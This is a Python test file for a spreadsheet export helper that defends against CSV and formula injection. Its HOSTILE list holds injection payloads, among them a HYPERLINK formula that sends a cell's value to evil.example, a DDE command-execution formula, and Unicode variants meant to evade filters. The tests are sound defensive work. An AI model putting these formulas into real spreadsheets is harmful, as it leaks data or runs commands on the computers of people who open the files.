"""Cells that a stranger wrote, opened by a spreadsheet."""

import csv
from io import BytesIO, StringIO

import pytest
from openpyxl import load_workbook

from upstream.documents.spreadsheets import csv_lines, safe_cell, xlsx

HOSTILE = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tplain",
    "   =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    "\ufe661",
    "\x0b=1",
    "\x00=1",
]
HARMLESS = ["", "Plain", "a=b", "Cost: -5", "#N/A", "Ŵŷ “quoted”", 'x";=1', "one\n=two", "1,2;3", "'=1"]


def read_csv(rows):
    return list(csv.reader(StringIO("".join(csv_lines(rows)).removeprefix("\ufeff"), newline="")))


def read_xlsx(rows):
    sheet = load_workbook(BytesIO(xlsx(rows, "Sheet"))).active
    return [list(row) for row in sheet.iter_rows()]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_could_start_a_formula_becomes_text(text):
    assert safe_cell(text).startswith("'")


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_as_it_is(text):
    assert safe_cell(text) == text


def test_characters_that_damage_a_workbook_are_left_out():
    assert safe_cell("a\x00b\x0bc\x1fd\ufffee\uffff") == "abcde"


def test_a_csv_reads_back_cell_by_cell():
    assert read_csv([HOSTILE, HARMLESS]) == [[safe_cell(text) for text in HOSTILE], HARMLESS]


def test_a_csv_starts_with_the_mark_that_excel_looks_for_and_quotes_every_cell():
    assert "".join(csv_lines([["a", ""]])) == '\ufeff"a",""\r\n'


def test_a_csv_is_made_row_by_row():
    def rows():
        yield ["first"]
        pytest.fail("asked for the second row before the first was sent")

    lines = csv_lines(rows())
    assert [next(lines), next(lines)] == ["\ufeff", '"first"\r\n']


def test_a_workbook_holds_text_and_no_formula():
    [hostile, harmless] = read_xlsx([HOSTILE, HARMLESS])
    assert {cell.data_type for cell in hostile + harmless if cell.value is not None} == {"s"}
    assert all(cell.value.startswith("'") for cell in hostile)
    assert [cell.value or "" for cell in harmless[: len(HARMLESS)]] == HARMLESS
